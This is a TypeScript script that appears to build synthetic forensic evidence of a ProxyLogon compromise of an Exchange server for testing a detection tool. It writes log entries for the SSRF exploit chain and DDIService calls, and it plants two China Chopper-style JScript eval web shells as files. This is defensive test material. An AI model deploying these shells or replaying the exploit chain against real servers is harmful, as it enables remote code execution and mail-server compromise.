// Writes demo/evidence: a SYNTHETIC ProxyLogon-compromised Exchange 2016 CU19 server (see README.md).
// Deterministic. Usage: node --import tsx demo/make.ts [out-dir]   (default: demo/evidence)
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import {
  csvLine,
  ECP_SERVER_FIELDS,
  exchangeHeader,
  guid,
  rng,
} from '../test/fixtures/busy-clean/formats.ts'
import { dayOfTraffic, renderWeb } from '../test/fixtures/busy-clean/make.ts'
import { type Request, SERVER } from '../test/fixtures/busy-clean/traffic.ts'

const V15 = 'C/Program Files/Microsoft/Exchange Server/V15'
// Exchange 2016 CU19 (15.1.2176.2): current before the March 2021 security update, so vulnerable.
const VERSION = '15.01.2176.002'
const BUILD = ['15', '1', '2176', '2'] as const
// Attacker addresses from the Volexity / CISA AA21-062A lists (corpus/ioc).
const EXPLOIT_IP = '104.140.114.110'
const SHELL_IP = '167.99.168.251'
const PROBE_IP = '211.56.98.146'
const SWEEP_IP = '5.254.43.18'
const CANARY = 'cNbWq1mS2EmvTzQ0bJ3xkA7f8YkF3dgIyQk4Fq0bfR6mS1EVa9A.'
const SCRIPT =
  '<script language="JScript" runat="server">function Page_Load(){eval(Request["exhunt_demo"],"unsafe");}</script>'
const SHELL_OWA = '/owa/auth/RedirSuiteServerProxy.aspx'
const SHELL_ASPNET = '/aspnet_client/system_web/supp0rt.aspx'

function write(root: string, rel: string, text: string): void {
  const p = join(root, rel)
  mkdirSync(dirname(p), { recursive: true })
  writeFileSync(p, text)
}

/** The ProxyLogon chain on 2021-03-03: SSRF via /ecp/y.js with a ServerInfo~ X-BEResource cookie. */
function exploitRequests(): Request[] {
  const be = 'ServerInfo~a]@EXCH01.contoso.local:444'
  const ssrf = (t: string, target: string, status: number): Request => ({
    time: `2021-03-03 ${t}`,
    method: 'POST',
    stem: '/ecp/y.js',
    ip: EXPLOIT_IP,
    ua: 'ExchangeServicesClient/0.0.0.0',
    status,
    protocol: 'Ecp',
    anchor: `${be}${target}#`,
    authType: 'Anonymous',
  })
  return [
    ssrf('06:10:02', '/autodiscover/autodiscover.xml?', 200),
    ssrf('06:10:05', '/mapi/emsmdb/?', 200),
    ssrf('06:10:09', '/ecp/proxyLogon.ecp?', 241),
    ssrf(
      '06:10:14',
      `/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=${CANARY}&schema=OABVirtualDirectory`,
      200,
    ),
    ssrf(
      '06:10:19',
      `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${CANARY}&schema=OABVirtualDirectory`,
      200,
    ),
    ssrf(
      '06:10:25',
      `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${CANARY}&schema=ResetOABVirtualDirectory`,
      200,
    ),
  ]
}

/** A second actor using the planted shells (2021-03-03 afternoon, 2021-03-04). */
function shellUse(day: string, hour: number): Request[] {
  const out: Request[] = []
  const at = (m: number) =>
    `${day} ${String(hour).padStart(2, '0')}:${String(m).padStart(2, '0')}:17`
  out.push({
    time: at(1),
    method: 'GET',
    stem: SHELL_OWA,
    ip: SHELL_IP,
    ua: 'antSword/v2.1',
    status: 200,
  })
  for (let m = 2; m < 8; m++) {
    out.push({
      time: at(m),
      method: 'POST',
      stem: SHELL_OWA,
      ip: SHELL_IP,
      ua: 'antSword/v2.1',
      status: 200,
    })
  }
  out.push({
    time: at(9),
    method: 'GET',
    stem: SHELL_ASPNET,
    query: 'exhunt_demo=whoami',
    ip: SHELL_IP,
    ua: 'antSword/v2.1',
    status: 200,
  })
  out.push({
    time: at(10),
    method: 'POST',
    stem: SHELL_ASPNET,
    ip: SHELL_IP,
    ua: 'antSword/v2.1',
    status: 200,
  })
  return out
}

/** Someone sweeping for other actors' shells (all 404). */
function sweep(day: string): Request[] {
  const names = [
    '/owa/auth/errorEE.aspx',
    '/owa/auth/shell.aspx',
    '/aspnet_client/discover.aspx',
    '/aspnet_client/system_web/help.aspx',
    '/owa/auth/web.aspx',
    '/aspnet_client/xx.aspx',
  ]
  return names.map((stem, i) => ({
    time: `${day} 21:4${i}:03`,
    method: 'GET',
    stem,
    ip: SWEEP_IP,
    ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
    status: 404,
  }))
}

function byTime(a: Request, b: Request): number {
  return a.time < b.time ? -1 : a.time > b.time ? 1 : 0
}

function webDay(
  root: string,
  r: () => number,
  day: string,
  yymmdd: string,
  extra: Request[],
): void {
  const requests = [...dayOfTraffic(r, day, 160), ...extra].sort(byTime)
  const web = renderWeb(r, day, requests, VERSION, BUILD)
  write(root, `C/inetpub/logs/LogFiles/W3SVC1/u_ex${yymmdd}.log`, web.iis)
  for (const [protocol, text] of web.proxy) {
    if (!['Ecp', 'Owa', 'Autodiscover'].includes(protocol)) continue
    write(
      root,
      `${V15}/Logging/HttpProxy/${protocol}/HttpProxy_${day.replaceAll('-', '')}06-1.LOG`,
      text,
    )
  }
}

export function makeDemo(root: string): void {
  const r = rng(20210303)
  const probe: Request = {
    time: '2021-03-02 23:51:40',
    method: 'POST',
    stem: '/autodiscover/autodiscover.xml',
    ip: PROBE_IP,
    ua: 'python-requests/2.25.1',
    status: 404,
    protocol: 'Autodiscover',
    anchor: 'ServerInfo~localhost/autodiscover/autodiscover.xml?#',
    authType: 'Anonymous',
  }
  webDay(root, r, '2021-03-02', '210302', [probe, ...sweep('2021-03-02')])
  webDay(root, r, '2021-03-03', '210303', [...exploitRequests(), ...shellUse('2021-03-03', 14)])
  webDay(root, r, '2021-03-04', '210304', shellUse('2021-03-04', 2))

  // Back-end site (port 444): the DDI calls the SSRF made, as the front end's machine account.
  let be =
    '#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 06:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n'
  be += `2021-03-03 06:10:19 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=${CANARY}&schema=OABVirtualDirectory 444 CONTOSO\\EXCH01$ 10.0.0.5 ExchangeServicesClient/0.0.0.0 - 200 0 0 845\r\n`
  be += `2021-03-03 06:10:25 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=${CANARY}&schema=ResetOABVirtualDirectory 444 CONTOSO\\EXCH01$ 10.0.0.5 ExchangeServicesClient/0.0.0.0 - 200 0 0 1203\r\n`
  write(root, 'C/inetpub/logs/LogFiles/W3SVC2/u_ex210303.log', be)

  // ECP Server log: the OAB ExternalUrl set to a China Chopper script, after ordinary admin work.
  let ecp = exchangeHeader(
    'ECP Server Log',
    '15.0.0.0',
    '2021-03-03T06:00:00.000Z',
    ECP_SERVER_FIELDS,
  )
  const ecpRow = (t: string, cmd: string, url: string) =>
    csvLine(ECP_SERVER_FIELDS, {
      TimeStamp: t,
      ServerName: SERVER,
      EventId: 'ECP.Request',
      EventData: `S:TIME=${10 + Math.floor(r() * 900)};S:SID=${guid(r)};S:CMD=${cmd};S:REQID=;S:URL=${url};S:REFERRER=;S:EX=;S:ACTID=${guid(r)};S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;S:USID=${guid(r)};S:EDOID=;S:ACID=`,
    })
  ecp += ecpRow(
    '2021-03-03T06:02:11.020Z',
    'Get-InboxRule',
    '/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=CANARY',
  )
  ecp += ecpRow(
    '2021-03-03T06:10:19.412Z',
    `Set-OabVirtualDirectory.ExternalUrl='http://f/${SCRIPT}'.Identity='a8f3c2d1-0000-4a4a-9b9b-1234567890ab'`,
    `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${CANARY}&schema=OABVirtualDirectory`,
  )
  ecp += ecpRow(
    '2021-03-03T06:10:25.731Z',
    `Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='a8f3c2d1-0000-4a4a-9b9b-1234567890ab'`,
    `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${CANARY}&schema=OABVirtualDirectory`,
  )
  write(root, `${V15}/Logging/ECP/Server/ECPServer2021030306-1.LOG`, ecp)

  // OAB generator log. No public sample of this log exists (corpus README); the columns follow the
  // OABLogger field names sources/logs documents, the message is Microsoft's (HAFNIUM blog).
  const oabFields = ['Timestamp', 'RecordType', 'TraceId', 'OabGuid', 'AddressListGuid', 'Message']
  let oab = exchangeHeader('OAB Generator Log', VERSION, '2021-03-03T00:00:00.000Z', oabFields)
  const oabRow = (t: string, type: string, msg: string) =>
    csvLine(oabFields, {
      Timestamp: t,
      RecordType: type,
      TraceId: guid(r),
      OabGuid: 'a8f3c2d1-0000-4a4a-9b9b-1234567890ab',
      AddressListGuid: '',
      Message: msg,
    })
  oab += oabRow('2021-03-03T01:00:04.112Z', 'Information', 'OAB generation started')
  oab += oabRow('2021-03-03T01:00:41.870Z', 'Information', 'OAB generation completed')
  oab += oabRow(
    '2021-03-03T06:10:26.204Z',
    'Warning',
    "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx' needs to be removed",
  )
  write(root, `${V15}/Logging/OABGeneratorLog/OABGenerator.log`, oab)

  // The planted shells: inert text (never served, never run), detectable by the web-file hunt.
  write(
    root,
    `${V15}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx`,
    `Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nOfflineAddressBooks             :\r\nRequireSSL                      : True\r\nBasicAuthentication             : False\r\nWindowsAuthentication           : True\r\nOAuthAuthentication             : True\r\nServer                          : EXCH01\r\nInternalUrl                     : https://exch01.contoso.local/OAB\r\nExternalUrl                     : http://f/${SCRIPT}\r\n`,
  )
  write(
    root,
    'C/inetpub/wwwroot/aspnet_client/system_web/supp0rt.aspx',
    '<%@ Page Language="Jscript"%><%eval(Request.Item["exhunt_demo"],"unsafe");%>',
  )
}

if (process.argv[1]?.replaceAll('\\', '/').endsWith('demo/make.ts')) {
  const out = process.argv[2] ?? join(import.meta.dirname, 'evidence')
  rmSync(out, { recursive: true, force: true })
  makeDemo(out)
}
